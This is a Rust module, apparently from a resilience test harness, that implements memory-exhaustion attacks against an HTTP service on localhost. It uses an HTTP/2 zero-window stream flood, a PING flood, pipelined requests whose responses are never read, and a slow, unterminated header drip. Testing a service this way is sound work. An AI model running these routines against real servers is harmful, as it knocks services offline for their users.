//! Attacks on memory: answers that are not read, and requests that do not end.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use super::client::{Client, status};

/// The largest page.
const PAGE: &str = "/docs/swagger-ui-bundle.js";
/// Streams of a connection: more than the service allows. A library would keep to what it allows,
/// therefore the frames are made here.
const STREAMS: u32 = 250;

/// What an HTTP/2 client begins with, and its SETTINGS: no answer may be sent (window 0).
const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0ordersag";
/// How often a silent client sends one.
const PING_EVERY: Duration = Duration::from_millis(500);
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const END_STREAM_AND_HEADERS: u8 = 5;

/// A head that does not end: this, once in so much time, so often.
static PIECE: [u8; 8 * 1_024] = [b'x'; 8 * 1_024];
const PIECE_EVERY: Duration = Duration::from_millis(200);
const PIECES: u8 = 47;

pub(super) async fn closed_windows(client: Client) -> io::Result<String> {
    let mut stream = client.connect().await?;
    let asked: Vec<u8> = (0..STREAMS).flat_map(|number| headers(2 * number + 1)).collect();
    let asked = [BEGIN, &asked].concat();
    let (mut reader, mut writer) = stream.split();
    let ((), met) = tokio::try_join!(writer.write_all(&asked), frames(&client, &mut reader))?;
    Ok(met)
}

pub(super) async fn pings(client: Client) -> io::Result<String> {
    let mut stream = client.connect().await?;
    let (mut reader, mut writer) = stream.split();
    tokio::select! {
        met = frames(&client, &mut reader) => met,
        Err(error) = ping(&mut writer) => Err(error),
    }
}

async fn ping(writer: &mut (impl AsyncWrite + Unpin)) -> io::Result<()> {
    writer.write_all(BEGIN).await?;
    loop {
        writer.write_all(PING).await?;
        tokio::time::sleep(PING_EVERY).await;
    }
}

/// The frame that asks for the page on a stream. Its fields are literal but for those of HPACK's
/// static table: 2 is `:method: GET`, 6 `:scheme: http`, 4 and 1 name `:path` and `:authority`.
fn headers(stream: u32) -> Vec<u8> {
    let mut fields: Vec<u8> = vec![0x82, 0x86];
    for (name, value) in [(4, PAGE), (1, "localhost")] {
        fields.push(name);
        // All of them are shorter than 127 bytes, and so one byte says how long.
        fields.extend(u8::try_from(value.len()));
        fields.extend(value.as_bytes());
    }
    let length = u32::try_from(fields.len()).unwrap_or_default();
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([HEADERS, END_STREAM_AND_HEADERS]);
    frame.extend(stream.to_be_bytes());
    frame.extend(fields);
    frame
}

/// Reads frames until the connection ends, and counts those that say what becomes of requests.
async fn frames(client: &Client, reader: &mut (impl AsyncRead + Unpin)) -> io::Result<String> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        match head[3] {
            HEADERS => client.met.count("answers begun"),
            RST_STREAM => client.met.count("streams refused"),
            GOAWAY => client.met.count("told to go"),
            _ => {}
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = (&mut *reader).take(length.into());
        tokio::io::copy(&mut payload, &mut tokio::io::sink()).await?;
    }
}

pub(super) async fn unread(client: Client) -> io::Result<String> {
    let request = format!("GET {PAGE} HTTP/1.1\r\nHost: localhost\r\n\r\n");
    let mut stream = client.send(&request).await?;
    loop {
        stream.write_all(request.as_bytes()).await?;
    }
}

pub(super) async fn heads(client: Client) -> io::Result<String> {
    let mut stream = client.send("GET / HTTP/1.1\r\nHost: localhost\r\nX: ").await?;
    let (mut reader, mut writer) = stream.split();
    tokio::select! {
        met = status(&mut reader) => met,
        Err(error) = drip(&mut writer) => Err(error),
    }
}

async fn drip(writer: &mut (impl AsyncWrite + Unpin)) -> io::Result<()> {
    for _ in 0..PIECES {
        writer.write_all(&PIECE).await?;
        tokio::time::sleep(PIECE_EVERY).await;
    }
    Ok(())
}
